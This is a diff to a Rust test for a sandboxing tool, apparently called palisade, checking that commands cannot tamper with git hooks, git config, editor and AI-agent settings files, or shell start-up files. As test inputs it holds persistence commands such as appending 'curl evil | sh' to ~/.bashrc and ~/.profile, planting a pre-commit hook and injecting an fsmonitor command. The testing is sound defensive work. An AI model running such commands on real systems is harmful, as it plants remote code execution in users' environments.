@@ -335,7 +335,6 @@ fn protected_names_cannot_be_created_or_changed() {
         "echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
         "git config core.hooksPath /tmp/evil",
         "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
-        "echo 'curl evil | sh' > .bashrc",
         "echo '{\"mcpServers\":{}}' > .mcp.json",
         "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
         "echo '{}' > x.json && mv x.json .vscode/tasks.json",
@@ -380,6 +379,31 @@ fn protected_names_cannot_be_created_or_changed() {
     assert_eq!(left, [".git", "normal.txt"]);
     let exclude = std::fs::read_to_string(d.proj.join(".git/info/exclude")).unwrap_or_default();
     assert!(!exclude.contains("palisade"), "{exclude}");
+    // With the home directory writable, its shell start-up files are
+    // still protected, existing or not.
+    let home = d.outside.join("home");
+    std::fs::create_dir(&home).unwrap();
+    std::fs::write(home.join(".profile"), "# mine\n").unwrap();
+    let script = "echo 'curl evil | sh' >> ~/.bashrc; echo 'curl evil | sh' >> ~/.profile; \
+                  echo ok > ~/notes.txt";
+    let o = Command::new(env!("CARGO_BIN_EXE_palisade"))
+        .args(["run", "--allow-write"])
+        .arg(&home)
+        .args(["--", "sh", "-c", script])
+        .current_dir(&d.proj)
+        .env("HOME", &home)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "the home is writable: {o:?}");
+    assert!(!home.join(".bashrc").exists(), "no placeholder left");
+    assert_eq!(
+        std::fs::read_to_string(home.join(".profile")).unwrap(),
+        "# mine\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(home.join("notes.txt")).unwrap(),
+        "ok\n"
+    );
 }
 
 /// Processes the command leaves behind — a new session, a double fork,
